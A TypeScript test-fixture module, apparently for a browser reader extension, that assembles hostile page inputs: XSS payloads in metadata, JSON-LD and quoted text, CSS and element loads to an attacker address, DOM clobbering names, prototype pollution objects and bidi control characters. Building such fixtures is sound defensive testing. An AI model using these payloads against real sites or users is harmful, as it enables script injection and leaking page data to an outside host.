import { ADDRESS, payloadsOf, SCRIPT } from './payload.ts';

/** Styles and elements that ask for an address without a script, or send what is on the page to it. */
const LOADING: readonly string[] = [
  `<style>@import "${ADDRESS}"; p::first-letter{background:url(${ADDRESS})}</style>`,
  `<style>input[value^="a"]{background:url("${ADDRESS}")}</style><input value="abc" type="text">`,
  `<style>@font-face{font-family:x;src:url(${ADDRESS})}*{font-family:x!important}</style>`,
  `<style>:root{--x:url(${ADDRESS})}*{background:var(--x)!important;cursor:var(--x),auto}</style>`,
  `<link rel="stylesheet" href="${ADDRESS}"><link rel="preload" as="image" href="${ADDRESS}">`,
  `<link rel="prefetch" href="${ADDRESS}"><link rel="dns-prefetch" href="${ADDRESS}">`,
  `<p style="background:url(${ADDRESS});list-style:url(${ADDRESS})">text of a paragraph in colour</p>`,
  `<p style="behavior:url(${ADDRESS});-moz-binding:url(${ADDRESS});width:expression(${SCRIPT})">text</p>`,
  `<table background="${ADDRESS}"><tr><td background="${ADDRESS}">a</td><td>b</td></tr></table>`,
  `<a href="https://reed.example/" ping="${ADDRESS}">a link that tells</a>`,
  `<object data="${ADDRESS}"></object><embed src="${ADDRESS}"><applet code="${ADDRESS}"></applet>`,
  `<video poster="${ADDRESS}" autoplay><source src="${ADDRESS}"><track default src="${ADDRESS}"></video>`,
  `<audio autoplay src="${ADDRESS}"></audio><bgsound src="${ADDRESS}">`,
  `<iframe src="${ADDRESS}"></iframe><portal src="${ADDRESS}"></portal><frame src="${ADDRESS}">`,
  `<svg><image href="${ADDRESS}"/><use href="${ADDRESS}#x"/><feImage href="${ADDRESS}"/></svg>`,
  `<input type="image" src="${ADDRESS}"><button formaction="${ADDRESS}">x</button>`,
  `<meta http-equiv="refresh" content="9;url=${ADDRESS}">`,
  `<script src="${ADDRESS}"></script><script type="module">import "${ADDRESS}"</script>`,
  `<picture><source srcset="${ADDRESS} 1x"><img alt="A heron"></picture>`,
  `<base href="${ADDRESS}/"><base target="_blank">`,
];

/** Names by which a form or an anchor hides what a script looks for on it. */
const CLOBBERED =
  'body head attributes parentNode parentElement childNodes children firstChild firstElementChild nextSibling nodeName nodeType ownerDocument localName textContent innerHTML classList className style id remove contains closest querySelector querySelectorAll getAttribute setAttribute removeAttribute hasAttribute matches cloneNode append appendChild documentElement implementation createElement title getElementsByTagName shadowRoot isConnected';
/** Ids and names of ours, and of what every script uses. */
const TAKEN_IDS =
  'pq-1 pullquote pullquote-reader pullquoteReads pullquoteCloseReader ledger quotes-heading chrome browser document window location self top';

const PROTOTYPES: readonly string[] = [
  '{"__proto__":{"polluted":1},"@type":"NewsArticle","headline":"A heron"}',
  '{"constructor":{"prototype":{"polluted":1}},"@type":"NewsArticle"}',
  '{"@type":["NewsArticle",null,{"@type":[]}],"author":[[[{"name":{"name":"x"}}]]],"datePublished":{"a":1}}',
  '{"@graph":{"@graph":{"@graph":[{"@type":"NewsArticle","author":{"__proto__":null,"name":["a",1,{}]}}]}}}',
  `{"@type":"NewsArticle","headline":"<img src=x onerror=${SCRIPT}>","author":{"name":"<script>${SCRIPT}<\\/script>"}}`,
  `{"@type":"NewsArticle","image":"javascript:${SCRIPT}","url":"javascript:${SCRIPT}","publisher":{"name":"\\u202e<b>"}}`,
  `{"@type":"NewsArticle","articleBody":"<img src=x onerror=${SCRIPT}> ","description":"</script><script>${SCRIPT}</script>"}`,
  '{"@type":"toString","headline":"hasOwnProperty","author":{"@type":"__proto__","name":"valueOf"}}',
];

const HOSTILE_VALUES: readonly string[] = [
  `&lt;img src=x onerror=${SCRIPT}&gt;`,
  `"&gt;&lt;script&gt;${SCRIPT}&lt;/script&gt;`,
  `javascript:${SCRIPT}`,
  '__proto__',
  '\u202e\u2066 turned \u0000 around',
];

const METADATA: readonly ((value: string) => string)[] = [
  (value) => `<title>${value}</title>`,
  (value) => `<meta property="og:title" content='${value}'><meta name="twitter:title" content='${value}'>`,
  (value) => `<meta name="author" content='${value}'><meta property="article:author" content='${value}'>`,
  (value) => `<meta property="og:site_name" content='${value}'><meta name="application-name" content='${value}'>`,
  (value) => `<meta property="og:image" content='${value}'><meta property="og:image:alt" content='${value}'>`,
  (value) => `<link rel="canonical" href='${value}'><meta property="og:url" content='${value}'>`,
  (value) => `<link rel="next" href='${value}'><link rel="amphtml" href='${value}'>`,
  (value) => `<meta property="article:published_time" content='${value}'><meta name="language" content='${value}'>`,
  (value) => `<meta property="article:section" content='${value}'><meta name="keywords" content='${value}'>`,
  (value) => `<base href='${value}'>`,
];

const ROOTS: readonly string[] = [
  `lang='" onload="${SCRIPT}'`,
  `lang="&lt;script&gt;${SCRIPT}&lt;/script&gt;"`,
  `lang="__proto__" dir="__proto__"`,
  `lang="%%%" dir="\u202e"`,
  `lang="en-${'x'.repeat(2000)}"`,
  `dir='rtl" onload="${SCRIPT}'`,
  `id="pullquote-reader" class="pullquote" onload="${SCRIPT}"`,
  `data-pullquote-sites="*" data-pullquote="hidden" data-text-block="0" data-pullquote-card="javascript:${SCRIPT}"`,
];

/** Speakers, words and names that are written like markup. */
const EVIDENCE: readonly string[] = [
  `<p>“&lt;img src=x onerror=${SCRIPT}&gt; is what it said,” said Anna &lt;script&gt;${SCRIPT}&lt;/script&gt; Holm.</p>`,
  `<p>&lt;svg/onload=${SCRIPT}&gt; Feld, mayor of &lt;b onclick=${SCRIPT}&gt;Saltby, said: “Nothing of it runs here.”</p>`,
  `<p>“javascript:${SCRIPT} was written on the door,” said Javascript:${SCRIPT} Moor.</p>`,
  '<p>“None of them has a prototype,” said __proto__ Constructor, head of the HasOwnProperty Institute.</p>',
  '<p>“\u202eIt is turned around\u2066,” said \u202eAnna\u2067 Holm.</p>',
  `<p>“&amp;lt;script&amp;gt;${SCRIPT}&amp;lt;/script&amp;gt; was escaped twice,” said Anna Holm.</p>`,
  `<p>Anna Holm said: “\u0000\ufffd&#0;\u2028\u2029 are no letters, and [this](javascript:${SCRIPT}) is no link.”</p>`,
  `<p>“<b><a href="javascript:${SCRIPT}">This is a link</a></b> that leads nowhere,” said <i onmouseover=${SCRIPT}>Anna Holm</i>.</p>`,
];

const words = (list: string) => list.split(' ');

/** What is hostile in a page's data, names and styles. */
export const PAGES = [
  ...payloadsOf('loading', 'block', LOADING),
  ...payloadsOf(
    'clobbering',
    'block',
    words(CLOBBERED).map((name) => `<form id="f"><input name="${name}"><img name="${name}" id="${name}"></form>`),
  ),
  ...payloadsOf(
    'own name',
    'block',
    words(TAKEN_IDS).map(
      (id) => `<p id="${id}">text of a paragraph</p><a id="${id}" name="${id}" href="#${id}">up</a>`,
    ),
  ),
  ...payloadsOf(
    'data',
    'head',
    PROTOTYPES.map((json) => `<script type="application/ld+json">${json}</script>`),
  ),
  ...payloadsOf(
    'metadata',
    'head',
    METADATA.flatMap((write) => HOSTILE_VALUES.map((value) => write(value))),
  ),
  ...payloadsOf('root', 'root', ROOTS),
  ...payloadsOf('evidence', 'block', EVIDENCE),
];
